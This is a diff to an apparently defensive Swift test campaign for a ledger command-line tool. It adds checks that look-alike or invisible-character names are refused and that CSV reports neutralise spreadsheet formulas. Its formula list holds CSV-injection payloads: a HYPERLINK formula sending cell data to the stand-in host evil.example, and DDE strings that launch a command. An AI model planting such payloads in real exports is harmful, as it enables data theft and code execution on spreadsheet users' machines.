@@ -13,8 +13,17 @@
 // Corrupted caches get the cache oracle: the same probes (a dry-run batch
 // of second readings, a refused append, the reader mix) must answer as on a
 // copy without caches, and a valid append must still succeed.
+//
+// Names that imitate the ledger's own (MED, POA 2017, the actor
+// `campaign`: Cyrillic and Greek letters, full width, case, invisible and
+// bidi characters, control characters, too long) must be refused, on the
+// command line, in the environment and in batch files. Text a spreadsheet
+// would run as a formula (=, +, -, @, a tab first) is valid and recorded;
+// then every CSV report is read back, and no cell may begin with one of
+// those characters unless it is a plain number.
 
 import Foundation
+import LedgerCore
 import LedgerToolSupport
 #if canImport(Glibc)
 import Glibc
@@ -54,7 +63,8 @@ final class BadInputCampaign: CampaignRun {
     func run() -> Report {
         report.declare("inputs tried", "handled", "refused as the contract requires", "accepted", "exit 0", "exit 1", "exit 2", "exit 3", "exit 4",
                        "crashes", "hangs", "undocumented exit codes", "unclear messages", "journal changed by a refused command",
-                       "invalid inputs accepted", "cache cases", "cache probes", "cache mismatches")
+                       "invalid inputs accepted", "cache cases", "cache probes", "cache mismatches",
+                       "look-alike or invisible names refused", "formula texts recorded", "CSV reports read back", "formula cells in CSV reports")
         do { try setUp() } catch {
             report.defect("setup", "\(error)")
             return report
@@ -70,7 +80,7 @@ final class BadInputCampaign: CampaignRun {
             }
         }
         while cases < config.inputs {
-            let kind = rng.weighted([30, 12, 20, 20, 8, 5, hasImport ? 5 : 0])
+            let kind = rng.weighted([30, 12, 20, 20, 8, 5, hasImport ? 5 : 0, 8, 4])
             switch kind {
             case 0: execute(commandLine(&rng))
             case 1: execute(directedCommandLine(&rng))
@@ -78,7 +88,9 @@ final class BadInputCampaign: CampaignRun {
             case 3: execute(jsonBatch(&rng))
             case 4: cacheCase(&rng)
             case 5: execute(environmentCase(&rng))
-            default: execute(importCase(&rng))
+            case 6: execute(importCase(&rng))
+            case 7: execute(lookAlikeCase(&rng))
+            default: formulaCase(&rng)
             }
             cases += 1
             if cases % 1000 == 0 { workspace.log("\(cases) inputs, \(report.defectCount) defects") }
@@ -205,6 +217,7 @@ final class BadInputCampaign: CampaignRun {
                     problems.append(("integrity failure on an intact journal", r.summary))
                 }
                 if c.expect == .refusal { report.add("refused as the contract requires") }
+                if c.source == "look-alike name" && code == 1 { report.add("look-alike or invisible names refused") }
             } else {
                 report.add("accepted")
                 if c.expect == .refusal {
@@ -367,19 +380,21 @@ final class BadInputCampaign: CampaignRun {
     /// A defect the contract says must be refused, applied to a row.
     private func breakRow(_ row: inout [String: String], _ rng: inout SplitMix64) -> String {
         switch rng.int(0..<11) {
-        case 0: row = ["type": "reading", "indicator": "MED", "period": "2017-0\(rng.int(4...9))", "value": rng.pick(["abc", "1e400", "NaN", "1,000", "12abc", "true", "5 5"])]; return "a value that is not a number"
+        case 0: row = ["type": "reading", "indicator": "MED", "period": "2017-0\(rng.int(4...9))", "value": rng.pick(["abc", "1e400", "NaN", "1,0,0", "12abc", "true", "5 5"])]; return "a value that is not a number"
         case 1: row = ["type": "reading", "indicator": "MED", "period": rng.pick(["2017-13", "2017-Q5", "2018-02", "2017-00", "13-2017"]), "value": "1"]; return "an invalid period"
         case 2: row = ["type": "reading", "indicator": rng.pick(["NOPE", "med", "MED-X"]), "period": "2017-05", "value": "1"]; return "an unknown indicator"
         case 3: row = ["type": "reading", "indicator": "MED", "period": rng.pick(["2017-01", "2017-02", "2017-03"]), "value": "1"]; return "a second reading"
         case 4: row = ["type": "correction", "indicator": "MED", "period": "2017-02", "value": "77"]; return "a correction without a reason"
         case 5: row = ["type": "reading", "indicator": "MED", "period": "2017-0\(rng.int(4...9))", "value": rng.pick(["-5", "-0.5", "-1000000"])]; return "a negative value"
-        case 6: row["type"] = rng.pick(["lectura", "", "READINGS", "reading;", "??"]); return "an unknown or missing type"
-        case 7: row["colour"] = "red"; return "a column no field of the row's type uses"
+        case 6: row["type"] = rng.pick(["lecturas", "", "READINGS", "reading;", "??"]); return "an unknown or missing type"
+        case 7: row["colour"] = "red"; return BadInputCampaign.strayColumn
         case 8: row = ["type": "reading", "indicator": "MED", "period": "2017-0\(rng.int(4...9))"]; return "a reading without a value"
         case 9: row = ["type": "reading", "indicator": "RAT", "period": "2017-02", "value": "5"]; return "a plain value for a ratio indicator"
         default: row = ["type": "reading", "indicator": "TRI", "period": "2017-05", "value": "1"]; return "a month for a quarterly indicator"
         }
     }
+
+    static let strayColumn = "a column no field of the row's type uses"
 
     /// Byte-level damage that makes a file malformed, whatever its rows say.
     private func malform(_ bytes: inout [UInt8], json: Bool, _ rng: inout SplitMix64) -> String {
@@ -458,11 +473,13 @@ final class BadInputCampaign: CampaignRun {
 
     private func batchCase(_ rng: inout SplitMix64, json: Bool) -> Case {
         var rows = validRows(&rng, count: rng.int(1...25))
-        var reasons: [String] = []
+        // Each reason with the row it broke (-1: the whole file).
+        var broken: [(row: Int, why: String)] = []
         for _ in 0..<rng.int(0...3) where !rows.isEmpty {
             let i = rng.int(0..<rows.count)
-            reasons.append(breakRow(&rows[i], &rng))
+            broken.append((i, breakRow(&rows[i], &rng)))
         }
+        var wrongType = false
         if rng.chance(0.1) {
             // Wrong types in JSON: a field that is an object, an array, a boolean or null.
             let i = rng.int(0..<rows.count)
@@ -470,14 +487,20 @@ final class BadInputCampaign: CampaignRun {
             rows[i]["type"] = "reading"
             rows[i]["indicator"] = "MED"
             rows[i]["period"] = "2017-07"
-            reasons.append(json ? "a value of the wrong JSON type" : "a reading without a value")
+            // The row is another now: what broke it before is gone, but for a stray column.
+            broken.removeAll { $0.row == i && $0.why != BadInputCampaign.strayColumn }
+            broken.append((i, json ? "a value of the wrong JSON type" : "a reading without a value"))
+            wrongType = json
         }
         var bytes = json ? BadInputCampaign.jsonText(rows, rng: &rng) : BadInputCampaign.csvText(rows, rng: &rng)
-        if reasons.last == "a value of the wrong JSON type" {
+        if wrongType {
             let wrong = rng.pick(["{\"x\":1}", "[1]", "true", "null", "\"\"", "1e400", "-5", "1.5e3"])
             bytes = Array(String(decoding: bytes, as: UTF8.self).replacingOccurrences(of: "\"period\":\"2017-07\"", with: "\"period\":\"2017-07\",\"value\":\(wrong)").utf8)
-            if ["1e400", "1.5e3"].contains(wrong) { reasons.removeLast() }
+            // A one-number list is a list of numbers, which a batch line may give any field (it is
+            // how monthly targets are written): it reads as that number, as 1.5e3 reads as 1500.
+            if ["1e400", "1.5e3", "[1]"].contains(wrong) { broken.removeLast() }
         }
+        var reasons = broken.map(\.why)
         if rng.chance(0.25) { reasons.append(malform(&bytes, json: json, &rng)) }
         let (decorated, applied) = decorate(bytes, &rng)
         let ext = rng.chance(0.85) ? (json ? "jsonl" : "csv") : rng.pick(["txt", "json", "ndjson", "", "CSV"])
@@ -517,6 +540,107 @@ final class BadInputCampaign: CampaignRun {
         add("invalid-utf8.csv", Array("type,indicator,period,value\nreading,".utf8) + [0xFF, 0xFE, 0xC3] + Array(",2017-05,1\n".utf8),
             .refusal, "an indicator id in invalid UTF-8")
         return cases
+    }
+
+    // MARK: Names and spreadsheet cells
+
+    static let lookAlikeIDs = ["M\u{415}D", "\u{41C}ED", "\u{39C}\u{395}D", "\u{FF2D}\u{FF25}\u{FF24}", "med", "Med", "MED\u{200B}",
+                               "ME\u{200D}D", "\u{202E}MED", "MED\u{2060}", "\u{FEFF}MED", "ME\u{AD}D", "R\u{410}T", "TR\u{406}", "\u{1D40C}ED"]
+    static let lookAlikePlans = ["P\u{41E}A 2017", "\u{420}OA 2017", "POA\u{A0}2017", "POA\t2017", "POA\r2017", "POA\n2017", "poa 2017",
+                                 "POA 2O17", "\u{FF30}OA 2017", "POA 2017\u{200B}", "POA\u{2003}2017"]
+    static let lookAlikeActors = ["Campaign", "CAMPAIGN", "c\u{430}mpaign", "camp\u{200B}aign", "\u{202E}campaign", "campaign\u{200F}",
+                                  "ca\u{AD}mpaign", "c\u{FF41}mpaign", "campaign\u{3000}x"]
+
+    /// A name that imitates one of the ledger's, or holds a character no
+    /// name may hold, or is too long: refused, whatever way it comes in.
+    private func lookAlikeCase(_ rng: inout SplitMix64) -> Case {
+        let fresh = "LOOK-\(rng.int(1...99999))"
+        func define(id: String, plan: String) -> [String] {
+            ["append", "indicator", "--id", id, "--name", "Parecido", "--unit", "U", "--year", "2017", "--annual-target", "1", "--plan", plan]
+        }
+        let tooLong = String(repeating: "M", count: rng.int(65...6000))
+        switch rng.int(0..<5) {
+        case 0:
+            let id = rng.chance(0.9) ? rng.pick(BadInputCampaign.lookAlikeIDs) : tooLong
+            return Case(source: "look-alike name", arguments: define(id: id, plan: "POA 2017").map { Array($0.utf8) }, expect: .refusal,
+                        why: "an id that looks like MED, TRI or RAT, or holds a hidden character: \(id.prefix(20).debugDescription)")
+        case 1:
+            let plan = rng.chance(0.9) ? rng.pick(BadInputCampaign.lookAlikePlans) : String(repeating: "P", count: 101)
+            let args = rng.chance(0.7) ? define(id: fresh, plan: plan) : ["append", "close", "--quarter", "2017-Q2", "--plan", plan]
+            return Case(source: "look-alike name", arguments: args.map { Array($0.utf8) }, expect: .refusal,
+                        why: "a plan that looks like POA 2017, or holds a control or hidden character: \(plan.prefix(20).debugDescription)")
+        case 2, 3:
+            let actor = rng.chance(0.9) ? rng.pick(BadInputCampaign.lookAlikeActors) : String(repeating: "a", count: 101)
+            let args = ["append", "observation", "--indicator", "MED", "--period", "2017-05", "--text", "x"]
+            let byFlag = rng.chance(0.5)
+            return Case(source: "look-alike name", arguments: (args + (byFlag ? ["--actor", actor] : [])).map { Array($0.utf8) },
+                        environment: byFlag ? [:] : ["LEDGER_ACTOR": actor], expect: .refusal,
+                        why: "an actor that looks like `campaign`, or holds a hidden character: \(actor.debugDescription)")
+        default:
+            // In a batch file: good rows, then one row with the look-alike.
+            var rows: [[String: String]] = [["type": "indicator", "id": fresh, "name": "n", "unit": "u", "year": "2017", "annual-target": "1"]]
+            let id = rng.pick(BadInputCampaign.lookAlikeIDs)
+            rows.append(rng.chance(0.5) ? ["type": "indicator", "id": id, "name": "n", "unit": "u", "year": "2017", "annual-target": "1"]
+                                        : ["type": "observation", "indicator": id, "period": "2017-05", "text": "x"])
+            let json = rng.chance(0.5)
+            let bytes = json ? BadInputCampaign.jsonText(rows, rng: &rng) : BadInputCampaign.csvText(rows, rng: &rng)
+            let path = file("lookalike-\(rng.int(0..<1_000_000)).\(json ? "jsonl" : "csv")", bytes)
+            return Case(source: "look-alike name", arguments: ["append", "--file", path].map { Array($0.utf8) }, files: [path], expect: .refusal,
+                        why: "a batch row naming an id that looks like MED, TRI or RAT: \(id.debugDescription)")
+        }
+    }
+
+    static let formulas = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"ver\")", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                           "=cmd|'/c calc'!A1", "- ver anexo", "+52 55 1234 5678", "@ana", "==", "=\"a\";\"b\"", "-", "-12.5", "=-1"]
+
+    /// Text a spreadsheet would run as a formula, recorded (it is valid),
+    /// then read back through CSV reports (three of the eight each time).
+    private func formulaCase(_ rng: inout SplitMix64) {
+        let formula = rng.pick(BadInputCampaign.formulas)
+        let id = "F-\(rng.int(1...99999))"
+        var args: [String]
+        switch rng.int(0..<4) {
+        case 0:
+            args = ["append", "observation", "--indicator", "MED", "--period", "2017-0\(rng.int(4...9))", "--text", (rng.chance(0.2) ? "\t" : "") + formula]
+        case 1:
+            args = ["append", "indicator", "--id", id, "--name", formula, "--unit", rng.pick([formula, "U"]), "--year", "2017",
+                    "--annual-target", "1", "--owner", "9", "--owner-name", rng.pick([formula, "Unidad"]), "--plan", rng.pick(["POA 2017", "=PLAN" + id])]
+        case 2:
+            args = ["append", "target", "--indicator", "MED", "--annual-target", String(rng.int(1000...5000)), "--reason", formula]
+        default:
+            args = ["append", "reading", "--indicator", "MED", "--period", "2017-0\(rng.int(4...9))", "--value", "5", "--note", formula]
+        }
+        let c = Case(source: "formula text", arguments: args.map { Array($0.utf8) }, expect: .anyDocumented, why: "\(formula.debugDescription) in \(args[1]) \(args[2])")
+        if dirty { restore() }
+        let r = tool.runBytes(c.arguments, ledger: work, timeout: c.timeout)
+        judge(c, r)
+        guard r.code == 0 else {
+            report.defect("formula text refused", "\(c.why): \(r.summary)")
+            return
+        }
+        report.add("formula texts recorded")
+        let reports: [[String]] = [["quarter", "2017-Q2", "--csv"], ["quarter", "2017-Q1", "--csv"], ["status", "--csv"], ["log", "--csv"],
+                                   ["history", "MED", "--csv"], ["export", "journal", "--csv"], ["export", "state", "--csv"],
+                                   ["diff", "--from", "2000-01-01", "--to", "2999-01-01", "--csv"]]
+        // Three of them each time (every one over a run): a case costs four processes, not nine.
+        var chosen = reports
+        while chosen.count > 3 { chosen.remove(at: rng.int(0..<chosen.count)) }
+        for command in chosen {
+            let out = tool.run(command, ledger: work)
+            report.add("CSV reports read back")
+            guard out.code == 0, case .success(let records) = CSV.parse(out.stdout, separator: UInt8(ascii: ",")) else {
+                report.defect("CSV report failed", "`ledger \(command.joined(separator: " "))` after \(c.why): \(out.summary)")
+                continue
+            }
+            for record in records {
+                for field in record.fields {
+                    guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first),
+                          DecimalNumber(field) == nil, field != "-" else { continue }
+                    report.add("formula cells in CSV reports")
+                    report.defect("formula cell in a CSV report", "`ledger \(command.joined(separator: " "))` wrote \(field.prefix(60).debugDescription) after \(c.why)")
+                }
+            }
+        }
     }
 
     // MARK: Environment
